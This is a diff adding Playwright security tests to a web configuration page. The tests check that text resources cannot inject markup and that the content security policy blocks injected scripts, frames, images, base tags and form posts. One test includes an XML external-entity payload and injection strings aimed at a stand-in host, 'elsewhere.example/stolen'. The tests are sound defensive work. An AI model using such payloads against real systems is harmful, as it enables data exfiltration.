@@ -5,6 +5,7 @@ import { join } from "node:path";
 import type { Browser, BrowserContextOptions, Page } from "playwright-core";
 import { runServer } from "../adapters/http/server-fixture";
 import { BROWSER_TEST_TIMEOUT_MS, runBrowser } from "../support/run-browser";
+import { keptInBrowser, nothingKept } from "../support/kept-in-browser";
 import { buildWebResources, type BuiltWebResources } from "../webresources/built-scripts";
 import {
   changed,
@@ -58,6 +59,8 @@ interface Look {
   readonly relayOrigin?: string;
   readonly query?: string;
   readonly options?: BrowserContextOptions;
+  /** What is served as text web resource, in place of the product's own. */
+  readonly texts?: string;
   /** The page is looked at before every answer is there. */
   readonly early?: boolean;
 }
@@ -85,6 +88,8 @@ async function show(environment: FakeEnvironment, look: Look = {}): Promise<Show
       return route.abort();
     },
   );
+  const { texts } = look;
+  if (texts !== undefined) await page.route(/\.resx$/, (route) => route.fulfill({ body: texts }));
   await page.goto(`${host.origin}${PAGE_PATH}${look.query ?? ""}`);
   if (look.early !== true) await page.locator("[role=status]", { hasText: /^(Checked|Vérifié)/ }).waitFor();
   else await page.locator("[data-card]").first().waitFor();
@@ -289,5 +294,62 @@ test("[CFG8] texts of others are text: no element, no script, no link comes of t
   expect(await shown.page.title()).toBe("CoSell Sync: configuration");
   const hrefs = await shown.page.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
   expect(hrefs.every((href) => /^(\/main\.aspx\?|http:\/\/127\.0\.0\.1:)/.test(href ?? ""))).toBe(true);
+  await shown.close();
+});
+
+test("[CFG10] the page keeps nothing in the browser", async () => {
+  const shown = await show(complete(host.relayAddress));
+  expect(await keptInBrowser(shown.page)).toEqual(nothingKept);
+  await shown.close();
+});
+
+test("[CFG11] a text web resource can make the page fetch nothing and show nothing but its own texts", async () => {
+  const stolen = "https://elsewhere.example/stolen";
+  const titled = (declared: string, title: string) =>
+    `<?xml version="1.0"?>${declared}<root><data name="title"><value>${title}</value></data></root>`;
+  const outside = `<!DOCTYPE root [<!ENTITY % p SYSTEM "${stolen}.dtd"> %p; <!ENTITY out SYSTEM "${stolen}">]>`;
+  const titles: (string | null)[] = [];
+  for (const texts of [
+    titled("", "Another title"),
+    titled("", "&lt;img src='https://elsewhere.example/x'&gt;"),
+    titled(outside, "before &out; after"),
+  ]) {
+    const shown = await show(complete(host.relayAddress), { texts });
+    titles.push(await shown.page.locator("h1").first().textContent());
+    expect(shown.complaints).toEqual([]);
+    expect(await shown.page.locator("h1 *").count()).toBe(0);
+    await shown.close();
+  }
+  expect(titles.slice(0, 2)).toEqual(["Another title", "<img src='https://elsewhere.example/x'>"]);
+  expect(titles[2]).not.toContain("stolen");
+});
+
+test("[CFG12] nothing that gets onto the page runs, loads from elsewhere, or sends a form", async () => {
+  const shown = await show(complete(host.relayAddress));
+  await shown.page.evaluate(() => {
+    const refused = new Set<string>();
+    Object.assign(window, { refused });
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.add(effectiveDirective));
+    const put = (tag: string, about: object) => document.body.append(Object.assign(document.createElement(tag), about));
+    put("script", { textContent: "window.name = 'ran'" });
+    put("script", { src: "data:text/javascript,window.name='ran'" });
+    put("img", { src: "https://elsewhere.example/x.png" });
+    put("iframe", { src: "https://elsewhere.example/" });
+    put("base", { href: "https://elsewhere.example/" });
+    put("form", { action: "https://elsewhere.example/", method: "post" });
+    document.forms[0]?.submit();
+  });
+  const wanted = ["base-uri", "form-action", "frame-src", "img-src", "script-src-elem"];
+  const refused = await shown.page.waitForFunction(
+    (count) => {
+      const seen = Reflect.get(window, "refused") as ReadonlySet<string>;
+      return seen.size >= count && [...seen].sort();
+    },
+    wanted.length,
+    { timeout: 20_000 },
+  );
+  expect(await refused.jsonValue()).toEqual(wanted);
+  expect(await shown.page.evaluate(() => window.name)).toBe("");
+  expect(shown.complaints.filter((line) => line.startsWith("request:"))).toEqual([]);
   await shown.close();
 });
